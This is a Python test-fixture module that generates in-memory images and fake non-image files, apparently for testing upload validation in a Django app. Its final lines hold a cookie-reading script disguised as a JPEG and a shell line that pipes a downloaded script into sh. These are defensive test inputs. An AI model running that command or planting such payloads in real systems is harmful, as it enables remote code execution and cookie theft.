"""Image files made in memory for the tests: real JPEG, PNG, WebP and GIF
pictures of a given size, one with EXIF metadata, and files that only
pretend to be images."""

import io
import os

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image as PILImage

GPS_IFD = 0x8825


def picture_bytes(width=800, height=600, kind="JPEG", alpha=False, exif=False, frames=1, noise=False):
    """A picture in one colour, or of random noise (which no format compresses)."""
    mode = "RGBA" if alpha else "RGB"
    if noise:
        picture = PILImage.frombytes(mode, (width, height), os.urandom(width * height * len(mode)))
    else:
        picture = PILImage.new(mode, (width, height), (200, 40, 40, 128) if alpha else (30, 120, 200))
    output = io.BytesIO()
    options = {}
    if exif:
        data = PILImage.Exif()
        data[0x010F] = "Camera Maker"  # Make
        data[0x0131] = "Secret Software"  # Software
        data.get_ifd(GPS_IFD)[2] = (51.0, 7.0, 3.0)  # GPSLatitude
        options["exif"] = data.tobytes()
    if frames > 1:
        more = [PILImage.new(mode, (width, height), (i * 40, 10, 10)) for i in range(1, frames)]
        options.update(save_all=True, append_images=more, duration=100, loop=0)
    picture.save(output, kind, **options)
    return output.getvalue()


def upload(name="photo.jpg", content=None, **picture):
    """An uploaded file, as a form or the API receives it."""
    if content is None:
        content = picture_bytes(**picture)
    return SimpleUploadedFile(name, content, content_type="image/jpeg")


HTML_AS_JPEG = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SCRIPT_AS_JPEG = b"#!/bin/sh\ncurl https://example.org/x | sh\n"
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
